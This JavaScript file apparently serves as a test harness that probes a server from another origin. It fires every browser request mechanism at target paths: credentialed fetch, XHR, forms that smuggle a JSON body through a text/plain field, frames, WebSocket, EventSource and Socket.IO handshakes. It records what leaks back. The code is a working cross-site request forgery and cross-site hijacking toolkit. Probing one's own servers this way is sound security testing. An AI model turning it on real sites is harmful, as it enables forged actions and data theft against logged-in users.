/** What a page of another origin can try with one address, all at once: each way of asking that a browser has. `attack`
 * tells what was learned, where a mere "it loaded" counts as well.
 */

const PATIENCE = 2000;
let frames = 0;

/** The text of an answer; an opaque one is empty. */
const text = async (answer) => (await answer).text();

/** "loaded", or what `look` sees, once an element has loaded; nothing where it failed or did neither. */
function loading(element, address, look = () => "loaded", event = "load") {
  return new Promise((resolve) => {
    element.addEventListener(event, () => resolve(look(element)));
    element.addEventListener("error", () => resolve(""));
    for (const place of ["src", "href", "data"]) if (place in element) element[place] = address;
    document.body.append(element);
  });
}

const make = (tag, given = {}) => Object.assign(document.createElement(tag), given);

/** What can be seen of a window of another origin: its text, or how many frames it has. */
const inside = (view) => view.document?.body?.innerText || (view.length ? `${view.length} frames` : "");

/** A form that is sent into a frame of this page. */
function form(method, enctype) {
  return (address, { body }) => {
    const name = `frame${(frames += 1)}`;
    const frame = make("iframe", { name });
    document.body.append(frame);
    const sent = make("form", { action: address, method, enctype, target: name });
    sent.append(make("input", { name: `${body.slice(0, -1)},"x":"`, value: '"}' }));
    document.body.append(sent);
    return new Promise((resolve) => {
      frame.addEventListener("load", () => resolve(inside(frame.contentWindow)));
      sent.submit();
    });
  };
}

function opened(Kind, event) {
  return (address) =>
    new Promise((resolve) => {
      const made = new Kind(address, ...(Kind === EventSource ? [{ withCredentials: true }] : []));
      made.addEventListener(event, () => resolve("opened"));
      made.addEventListener("error", () => resolve(""));
    });
}

function asked(address, { method, body }) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.withCredentials = true;
    request.addEventListener("loadend", () => resolve(request.responseText));
    request.open(method, address);
    request.send(method === "GET" ? null : body);
  });
}

/** A window of its own: what this page sees of it until it is out of reach. */
async function shown(address) {
  const view = window.open(address);
  const until = Date.now() + PATIENCE;
  while (Date.now() < until && !view.closed) {
    if (view.location.href !== "about:blank" && view.document.readyState === "complete") return inside(view);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return view.closed || !view.length ? "" : `${view.length} frames`;
}

const sent = (method, body) => (method === "GET" ? {} : { body });
const live = (address) => address.replace(/^http/, "ws");
const handshake = "/socket.io/?EIO=4&transport=";

const ways = {
  fetch: (address, { method, body }) => text(fetch(address, { method, credentials: "include", ...sent(method, body) })),
  "fetch without credentials": (address, { method, body }) =>
    text(fetch(address, { method, credentials: "omit", ...sent(method, body) })),
  "fetch of JSON": (address, { method, body }) =>
    text(fetch(address, { method, credentials: "include", headers: { "Content-Type": "application/json" }, ...sent(method, body) })),
  "no-cors": (address, { method, body }) =>
    text(fetch(address, { method: method === "GET" ? "GET" : "POST", mode: "no-cors", credentials: "include", ...sent(method, body) })),
  XMLHttpRequest: asked,
  image: (address) => loading(make("img"), address),
  script: (address) => loading(make("script"), address),
  "module": (address) => import(address).then(() => "loaded"),
  style: (address) => loading(make("link", { rel: "stylesheet" }), address),
  prefetch: (address) => loading(make("link", { rel: "prefetch" }), address),
  video: (address) => loading(make("video"), address, undefined, "loadedmetadata"),
  frame: (address) => loading(make("iframe"), address, (frame) => inside(frame.contentWindow)),
  object: (address) => loading(make("object"), address, (object) => (object.contentWindow ? inside(object.contentWindow) : "loaded")),
  "form GET": form("GET", "application/x-www-form-urlencoded"),
  "form POST": form("POST", "text/plain"),
  "form POST of a file's kind": form("POST", "multipart/form-data"),
  WebSocket: (address) => opened(WebSocket, "open")(live(address)),
  EventSource: opened(EventSource, "open"),
  "Socket.IO, asked": (address) => text(fetch(new URL(`${handshake}polling`, address), { credentials: "include" })),
  "Socket.IO, opened": (address) => opened(WebSocket, "open")(live(new URL(`${handshake}websocket`, address).href)),
  beacon: async (address, { body }) => {
    navigator.sendBeacon(address, body);
    return "";
  },
  saved: async (address) => make("a", { href: address, download: "stolen", target: "_blank" }).click() ?? "",
  window: shown,
};

/** targets: [{path, method, body}] at the origin `base` -> [[way, method, path, what was learned]] */
window.attack = async (base, targets) => {
  const learned = [];
  const late = () => new Promise((resolve) => setTimeout(resolve, PATIENCE, ""));
  const attempt = async (way, target) => {
    // Some ways throw at once.
    const tried = (async () => ways[way](base + target.path, target))();
    const what = await Promise.race([tried, late()]).catch(() => "");
    if (what) learned.push([way, target.method, target.path, what]);
  };
  await Promise.all(targets.flatMap((target) => Object.keys(ways).map((way) => attempt(way, target))));
  return learned;
};
